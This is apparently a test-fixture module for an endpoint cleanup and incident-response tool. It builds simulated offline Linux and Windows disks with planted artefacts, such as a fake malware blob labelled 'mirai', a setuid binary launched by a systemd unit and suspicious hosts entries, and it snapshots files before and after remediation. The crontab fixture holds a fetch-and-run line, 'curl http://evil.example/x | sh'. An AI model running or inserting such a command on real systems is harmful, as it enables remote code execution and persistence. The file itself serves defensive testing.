"""Disks of machines that are off, with things to clean, and snapshots to compare before and after."""

from __future__ import annotations

import hashlib
import json
import os
import stat
from contextlib import suppress
from pathlib import Path
from typing import Any

from quetsach.endpoint.act import applying, choosing, grounds, plan
from quetsach.endpoint.act.plan import Plan
from quetsach.endpoint.checking import Result, check
from quetsach.endpoint.wanted import Wanted
from tests.endpoint import world

EVIL = b"\x7fELF harmless " + bytes(range(256)) * 300
HASH = hashlib.sha256(EVIL).hexdigest()
WANTED = Wanted(indicators=world.LISTED, hashes={HASH: "mirai"})
HIVES = ("SOFTWARE", "SYSTEM", "NTUSER.DAT")
STORES = ("var/lib/quetsach", "ProgramData/QuetSach", "C:/ProgramData/QuetSach")

LINUX = {
    "etc/hostname": b"may-02\n",
    "etc/machine-id": b"00112233445566778899aabbccddeeff\n",
    "etc/passwd": b"root:x:0:0::/root:/bin/sh\nan:x:1000:1000:An:/home/an:/bin/sh\n",
    "etc/hosts": b"127.0.0.1 localhost\n198.51.100.66 cong-van.example\n192.0.2.7 may-in\n",
    "etc/crontab": (
        "# m h dom\n5 * * * * root curl http://evil.example/x | sh\n0 1 * * * root sao-luu # giữ\n".encode()
    ),
    "etc/cron.d/backup": b"0 2 * * * root /usr/bin/true\n",
    "etc/systemd/system/upd.service": b"[Service]\nExecStart=/home/an/Downloads/upd --quiet\n",
    "usr/bin/ls": b"\x7fELF ls",
    "var/lib/dpkg/info/coreutils.list": b"/.\n/bin\n/bin/ls\n",
    "var/lib/dpkg/info/cron.list": b"/etc/crontab\n",
    "home/an/Downloads/upd": EVIL,
    "home/an/Downloads/thu.txt": b"thu\n",
}
"""A disk of a Linux: a listed file that a unit starts, a cron line and a hosts line to listed places."""


def linux(root: Path) -> Path:
    """The disk of `LINUX`, with unusual rights, times and attributes."""
    for name, content in LINUX.items():
        place = root / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
    evil = root / "home/an/Downloads/upd"
    with suppress(OSError):
        os.setxattr(evil, "user.origin", b"http://example.org/\xff")
    if os.geteuid() == 0:
        os.chown(evil, 1000, 1000)
    evil.chmod(0o4751)
    os.utime(evil, ns=(1_600_000_000_123_456_789, 1_500_000_000_987_654_321))
    (root / "etc/crontab").chmod(0o600)
    os.utime(root / "etc/crontab", ns=(1_400_000_000_000_000_001, 1_400_000_000_000_000_002))
    return root


def windows(root: Path, *signs: str) -> Path:
    """The disk of a Windows with harmless artefacts of these signs."""
    from tests.endpoint.plants import DISK

    told: dict[str, Any] = {}
    for sign in signs:
        for part, table in DISK[sign][0].items():
            mine = told.setdefault(part, {})
            for name, value in table.items():
                mine[name] = mine[name] | value if isinstance(value, dict) and name in mine else value
    return world.tree(world.planted(told), root)


def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
    """Everything but our own folder: content, rights, owner, time, attributes.

    Hives are changed in place, which changes their time; every other file must keep its time.
    """
    found: dict[str, tuple[Any, ...]] = {}
    for place in sorted(root.rglob("*")):
        name = place.relative_to(root).as_posix()
        if any(name.startswith(store) or store.startswith(f"{name}/") for store in STORES):
            continue
        status = place.lstat()
        if not stat.S_ISREG(status.st_mode):
            found[name] = (stat.S_IFMT(status.st_mode), status.st_uid)
            continue
        time = 0 if place.name in HIVES else status.st_mtime_ns
        attributes = {one: os.getxattr(place, one) for one in os.listxattr(place)}
        found[name] = (
            hashlib.sha256(place.read_bytes()).hexdigest(), status.st_mode, status.st_uid, status.st_gid,
            time, attributes, status.st_nlink,
        )  # fmt: skip
    return found


def look(root: Path) -> Result:
    """A check of the disk as it is now."""
    return check(grounds.at(root).machine, WANTED)


def planned(root: Path, *also: str, **how: Any) -> Plan:
    """The plan after a check of the disk, read from its file."""
    ground = grounds.at(root)
    result = check(ground.machine, WANTED)
    chosen = choosing.choose(result, ground, also, **how)
    made = plan.make(ground, str(result.verdict), chosen.warnings, chosen.steps, chosen.advice)
    path = root.with_name(f"{root.name}.plan.json")
    path.write_text(json.dumps(plan.document(made)), encoding="ascii")
    return plan.read(path)


def applied(root: Path, one: Plan) -> applying.Outcome:
    """Apply the plan."""
    return applying.apply(one, grounds.at(root), one.code)
